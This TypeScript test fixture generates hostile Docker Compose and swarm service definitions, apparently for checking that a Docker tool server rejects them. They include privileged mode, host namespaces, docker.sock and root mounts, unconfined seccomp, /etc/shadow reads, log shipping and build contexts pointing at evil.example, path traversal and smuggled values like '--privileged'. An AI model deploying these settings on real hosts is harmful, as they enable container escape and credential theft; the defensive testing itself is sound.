/** The same wishes in compose files, and for services of a swarm. */
import { TRAP_VOLUMES } from "./fake-engine.ts";
import type { HostileCall } from "./hostile-specs.ts";

/** Under `services.web`, beside its image; `FOLDER` is allowed. */
const SERVICES: Record<string, unknown>[] = [
  { privileged: true },
  { privileged: "true" },
  { privileged: "${P:-true}" },
  { cap_add: ["ALL"] },
  { devices: ["/dev/mem:/dev/mem"] },
  { device_cgroup_rules: ["a *:* rwm"] },
  { gpus: "all" },
  { pid: "host" },
  { ipc: "host" },
  { uts: "host" },
  { userns_mode: "host" },
  { cgroup: "host" },
  { cgroup_parent: "/" },
  { network_mode: "host" },
  { network_mode: "${N:-host}" },
  { network_mode: "container:x" },
  { network_mode: "service:web" },
  { security_opt: ["seccomp:unconfined"] },
  { security_opt: ["no-new-privileges:true", "apparmor:unconfined"] },
  { security_opt: "seccomp:unconfined" },
  { security_opt: ["no-new-privileges:false"] },
  { sysctls: { "kernel.core_pattern": "|x" } },
  { group_add: ["docker"] },
  { runtime: "other" },
  { use_api_socket: true },
  { volumes_from: ["container:x"] },
  { storage_opt: { size: "1P" } },
  { logging: { driver: "syslog" } },
  { logging: { driver: "splunk", options: { "splunk-capath": "/etc/shadow" } } },
  { logging: { options: { "syslog-address": "udp://evil.example" } } },
  { platform: "linux/amd64&remote=https://evil.example" },
  { build: { context: "FOLDER/context", labels: { "linkspan.nonce": "x" }, tags: ["../x", "web"] } },
  { labels: { "linkspan.nonce": "x" } },
  { labels: ["linkspan.instance=x", "managed-by=linkspan"] },
  { image: "borrowed:1" },
  { image: "web/../../x" },
  { image: "--privileged" },
  { volumes: ["/:/x"] },
  { volumes: ["/etc:/x"] },
  { volumes: ["${V:-/etc}:/x"] },
  { volumes: ["../../../../../../etc:/x"] },
  { volumes: ["/var/run/docker.sock:/x"] },
  { volumes: ["FOLDER/link:/x"] },
  { volumes: ["FOLDER/../allowed-secret:/x"] },
  { volumes: ["FOLDER:/x:rshared"] },
  { volumes: [{ type: "bind", source: "/", target: "/x" }] },
  { volumes: [{ type: "bind", source: "FOLDER", target: "/x", bind: { propagation: "rshared" } }] },
  { volumes: [{ type: "npipe", source: "\\\\.\\pipe\\docker_engine", target: "/x" }] },
  { volumes: [{ type: "cluster", source: "x", target: "/x" }] },
  { volumes: [{ type: "volume", source: "FOLDER", target: "/x" }] },
  { volumes: ["data:/"] },
  { build: { context: "FOLDER/context" } },
  { build: { context: "FOLDER/context", dockerfile: "../../allowed-secret/Dockerfile" } },
  { build: { context: "FOLDER/link" } },
  { build: { context: "/etc" } },
  { build: { context: "https://evil.example/x.git" } },
  { build: { context: "FOLDER/context", network: "host" } },
  { build: { context: "FOLDER/context", privileged: true } },
  { build: { context: "FOLDER/context", additional_contexts: { x: "/etc" } } },
  { build: { context: "FOLDER/context", ssh: ["default"] } },
  { env_file: "/etc/shadow" },
  { env_file: "FOLDER/link/passwd" },
  { env_file: "FOLDER/context/folder/Dockerfile" },
  { extends: { file: "/etc/passwd", service: "web" } },
  { container_name: "../x" },
  { container_name: "-x" },
  { hostname: "a\u0000b" },
  { deploy: { resources: { reservations: { devices: [{ capabilities: ["gpu"] }] } } } },
  { __proto__x: 1, constructor: { privileged: true } },
];

/** At the top of a file whose service uses the volume `v`, the network `n` and the secret `s`. */
const TOPS: Record<string, unknown>[] = [
  ...Object.keys(TRAP_VOLUMES).map((name) => ({ volumes: { v: { external: true, name } } })),
  ...Object.keys(TRAP_VOLUMES).map((name) => ({ volumes: { v: { name } } })),
  { volumes: { v: { driver_opts: { type: "none", o: "bind", device: "/" } } } },
  { volumes: { v: { driver: "rexray" } } },
  { volumes: { v: { labels: { "linkspan.carrier": "x" } } } },
  { networks: { n: { external: true, name: "host" } } },
  { networks: { n: { external: true, name: "hostnet" } } },
  { networks: { n: { driver: "host" } } },
  { networks: { n: { driver: "macvlan", driver_opts: { parent: "eth0" } } } },
  { networks: { n: { driver_opts: { "com.docker.network.bridge.name": "eth0" } } } },
  { networks: { n: { ipam: { config: [{ subnet: "0.0.0.0/0" }] } } } },
  { networks: { n: { ipam: { driver: "evil", config: [] } } } },
  { networks: { n: { labels: { "linkspan.instance": "x" } } } },
  { secrets: { s: { file: "/etc/shadow" } } },
  { secrets: { s: { file: "FOLDER/link/shadow" } } },
  { secrets: { s: { external: true } } },
  { include: ["/etc/passwd"] },
  { name: "../x" },
  { name: "-x" },
];

/** In a file that lies in the compose folder, and what it refers to. */
const FILES: Record<string, unknown>[] = [
  { include: [{ path: ["FOLDER/context/Dockerfile", "/etc/shadow"] }] },
  { include: [{ path: "inner.yaml", env_file: "/etc/shadow" }] },
  { include: [{ path: "inner.yaml", project_directory: "/etc" }] },
  { include: [{ path: "inner.yaml", project_directory: "../../.." }] },
  { include: ["../../data/undo.key"] },
  { services: { web: { extends: { file: "../../../etc/passwd", service: "web" } } } },
  { services: { web: { image: "web", volumes: ["../../../etc:/x"] } } },
  { services: { web: { image: "web", build: "../../.." } } },
];

/** Of a service of the swarm. */
const SWARM: Record<string, unknown>[] = [
  { volumes: ["/:/x"] },
  { volumes: ["FOLDER/link:/x"] },
  { volumes: ["FOLDER/{{.Node.ID}}:/x"] },
  { volumes: ["/var/run/docker.sock:/x:rw"] },
  ...Object.keys(TRAP_VOLUMES).map((name) => ({ volumes: [`${name}:/x`] })),
  { networks: ["host"] },
  { networks: ["hostnet"] },
  { privileges: { Seccomp: { Mode: "unconfined" } } },
  { cap_add: ["ALL"] },
  { sysctls: { "kernel.x": "1" } },
  { ulimits: [{ Name: "core" }] },
  { isolation: "process" },
  { secrets: ["x"] },
  { labels: { "linkspan.nonce": "x" } },
  { image: "borrowed:1" },
  { image: "web/../x" },
  { ContainerSpec: { Privileges: {} } },
  { runtime: "plugin" },
  { log_driver: "syslog" },
];

const INNER = '{"services":{"inner":{"image":"web","volumes":["./ssl:/x"],"env_file":"passwd","build":"."}}}';

export function composeCalls(folder: string): HostileCall[] {
  const put = <T>(value: T): T => JSON.parse(JSON.stringify(value).replaceAll("FOLDER", folder));
  const up = (file: Record<string, unknown>): HostileCall[] => {
    const content = JSON.stringify(file);
    const asked = { content, project_name: "hostile" };
    return [
      ["docker_compose_up", { ...asked, no_start: true }],
      ["docker_compose_build", asked],
      ["docker_compose_config", asked],
      ["docker_compose_scale", { ...asked, scale: { web: 2 } }],
    ];
  };
  const using = { image: "web", volumes: ["v:/x"], networks: ["n"], secrets: ["s"] };
  const tops = { volumes: { v: {} }, networks: { n: {} }, secrets: { s: { file: `${folder}/context/Dockerfile` } } };
  return [
    ...put(SERVICES).flatMap((more) => up({ services: { web: { image: "web", ...more } }, volumes: { data: {} } })),
    ...put(TOPS).flatMap((more) => up({ services: { web: using }, ...tops, ...more })),
    ...put(SWARM).flatMap((more): HostileCall[] => [
      ["docker_create_service", { image: "web", name: "s", ...more }],
      ["docker_update_service", { service_id: "s", ...more }],
    ]),
    ["docker_create_service", { image: "web", name: "s", volumes: [`${folder}:/x`], networks: ["swarmnet"] }],
    ["docker_compose_up", { content: '{"services":{"web":{"image":"web"}}}', project_name: "good", no_start: true }],
    ["docker_compose_write_file", { file: "hostile/inner.yaml", content: INNER }],
    ...put(FILES).flatMap((more, index): HostileCall[] => [
      ["docker_compose_write_file", { file: `hostile/${index}.yaml`, content: JSON.stringify(more) }],
      ["docker_compose_up", { file: `hostile/${index}.yaml`, no_start: true }],
    ]),
    ...put(["/etc", "/etc/passwd", "FOLDER/link", "FOLDER/context", ["FOLDER/context/Dockerfile", "/etc/shadow"]]).map(
      (file): HostileCall => ["docker_compose_config", { file }],
    ),
    ...["../../etc/cron.d/x.yaml", "/etc/x.yaml", "a/../../x.yaml", ".x.yaml", "x.sh", "a\u0000.yaml"].map(
      (file): HostileCall => ["docker_compose_write_file", { file, content: "services: {}" }],
    ),
  ];
}
